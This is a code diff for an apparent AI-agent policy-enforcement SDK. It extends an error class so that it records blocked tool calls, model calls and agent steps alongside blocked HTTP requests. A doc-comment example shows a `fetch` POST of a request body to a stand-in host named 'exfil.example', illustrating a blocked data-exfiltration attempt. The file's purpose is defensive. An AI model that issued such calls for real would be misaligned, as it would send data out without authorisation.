@@ -2,7 +2,7 @@ import { type CedarDiagnostic, TruseraError } from "@trusera/core";
 
 export { ConfigurationError, TruseraError, ValidationError } from "@trusera/core";
 
-/** What a blocked call was, as `PolicyViolationError` carries it. */
+/** What a blocked HTTP call was, as `PolicyViolationError` carries it. */
 export interface ViolationDetail {
   /** Upper case, e.g. `POST`. */
   method: string;
@@ -16,9 +16,27 @@ export interface ViolationDetail {
   reasons: readonly string[];
 }
 
+/** The actions a framework integration decides (see docs/integrations.md). */
+export type GuardedAction = "tool_call" | "llm_invoke" | "decision";
+
+/** What a blocked tool call, model call or agent step was, as `PolicyViolationError` carries it. */
+export interface ActionViolationDetail {
+  action: GuardedAction;
+  /** The tool, model or step name: the Cedar resource id. */
+  resource: string;
+  /** The integration that stopped it: `langchain`, `ai`, `openai` or `mcp`. */
+  library: string;
+  policyIds: readonly string[];
+  reasons: readonly string[];
+}
+
+const NOUN: Record<GuardedAction, string> = { tool_call: "tool", llm_invoke: "model", decision: "step" };
+
 /**
- * A call denied by policy in `block` mode. `fetch` rejects with it, axios rejects with it,
- * `http.request` emits it as `error`. The call never left the process.
+ * A call denied by policy in `block` mode; it never ran. For HTTP: `fetch` rejects with it, axios
+ * rejects with it, `http.request` emits it as `error`, and nothing left the process. For a framework
+ * integration: the tool, model call or agent step did not run (see docs/integrations.md for how each
+ * framework surfaces it).
  *
  * @example
  * try { await fetch("https://exfil.example/upload", { method: "POST", body }); }
@@ -26,23 +44,43 @@ export interface ViolationDetail {
  */
 export class PolicyViolationError extends TruseraError {
   readonly decision = "deny" as const;
+  /** `api_call` for HTTP, else the integration's action: `tool_call`, `llm_invoke` or `decision`. */
+  readonly action: "api_call" | GuardedAction;
+  /** What was denied: the (redacted) URL of an HTTP call, or the tool, model or step name. */
+  readonly resource: string;
   readonly policyIds: readonly string[];
   readonly reasons: readonly string[];
+  /** The HTTP method; "" for other actions. */
   readonly method: string;
+  /** The redacted URL; "" for other actions. */
   readonly url: string;
+  /** `fetch`, `undici`, `axios`, `http`, or the integration: `langchain`, `ai`, `openai`, `mcp`. */
   readonly library: string;
 
-  constructor(detail: ViolationDetail) {
+  constructor(detail: ViolationDetail | ActionViolationDetail) {
+    const reasons = detail.reasons.join("; ");
+    const http = !("action" in detail);
     super(
-      `[Trusera] Policy violation: ${detail.method} ${detail.url} denied (${detail.reasons.join("; ")})`,
+      http
+        ? `[Trusera] Policy violation: ${detail.method} ${detail.url} denied (${reasons})`
+        : `[Trusera] Policy violation: ${NOUN[detail.action]} ${detail.resource} denied - ${reasons}`,
       "TRUSERA_POLICY_VIOLATION",
     );
     this.name = "PolicyViolationError";
     this.policyIds = Object.freeze([...detail.policyIds]);
     this.reasons = Object.freeze([...detail.reasons]);
-    this.method = detail.method;
-    this.url = detail.url;
     this.library = detail.library;
+    if (http) {
+      this.action = "api_call";
+      this.resource = detail.url;
+      this.method = detail.method;
+      this.url = detail.url;
+    } else {
+      this.action = detail.action;
+      this.resource = detail.resource;
+      this.method = "";
+      this.url = "";
+    }
   }
 }
 
